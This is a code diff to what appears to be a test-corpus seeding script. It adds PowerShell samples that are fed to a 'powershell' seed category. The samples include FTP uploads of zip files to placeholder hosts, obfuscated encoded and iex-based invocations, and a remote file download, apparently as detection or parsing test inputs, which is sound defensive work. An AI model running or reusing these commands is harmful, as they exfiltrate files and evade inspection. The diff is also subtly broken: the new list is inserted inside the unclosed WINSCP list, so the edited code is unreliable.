@@ -21,6 +21,16 @@ WINSCP = [
     b"\1bob@192.0.2.1 -P 2222 -pw s3cret -b f",
     b"\2-oPort=2222 -b f bob@h:/in\n-put \"a b\" c\nreget d\n!ls\nlcd /t\nmput *.log\nquit\n",
     b"\4-P 2222 a.txt bob@192.0.2.1:/in/",
+POWERSHELLS = [
+    "$s=@\"\nopen 192.0.2.40\nbob\npw\nput C:\\t\\d.zip\nquit\n\"@\n$s|Out-File -Encoding ASCII $env:TEMP\\c.txt; ftp.exe -i -s:$env:TEMP\\c.txt\n",
+    "$h='192.0.2.41'\nforeach ($l in \"open $h\",'user bob pw','bye') { Add-Content -Path f.txt -Value $l }\n& ftp -n \"-s:f.txt\"\n",
+    "powershell -nop -enc ZgB0AHAAIAAtAHMAOgBmAA==\niex (-join[char[]](102,116,112,32,45,115,58,102))\n&(\"{1}{0}\" -f 'tp','f') -s:f\n",
+    "function Send($f) {\n  $r=[Net.FtpWebRequest]::Create(\"ftp://192.0.2.42/$f\")\n  $r.Method=[Net.WebRequestMethods+Ftp]::UploadFile\n"
+    "  $r.Credentials=New-Object Net.NetworkCredential('bob','pw')\n  $c=[IO.File]::ReadAllBytes($f)\n"
+    "  $s=$r.GetRequestStream(); $s.Write($c,0,$c.Length); $s.Close()\n}\nSend 'a.zip'\n",
+    "$w=New-Object IO.StreamWriter('f'); for($i=0;$i -lt 3;$i++){ $w.WriteLine(\"get $i\") }; $w.Close()\n"
+    "try { Start-Process ftp -ArgumentList '-s:f' -Wait } catch { exit } finally { rm f }\n"
+    "(New-Object Net.WebClient).DownloadFile('ftp://u:p@192.0.2.43/x','C:\\x')\n",
 ]
 
 
@@ -51,6 +61,8 @@ COMMANDS = {
 }
 for name, text in COMMANDS.items():
     seed("batch", name, text.encode())
+for number, text in enumerate(POWERSHELLS):
+    seed("powershell", f"{number}", text.encode())
 for number, path in enumerate(PROGRAMS):
     seed("pe", f"{number}", (host / path).read_bytes())
 for path in sorted((host.parent / "signed").iterdir()):
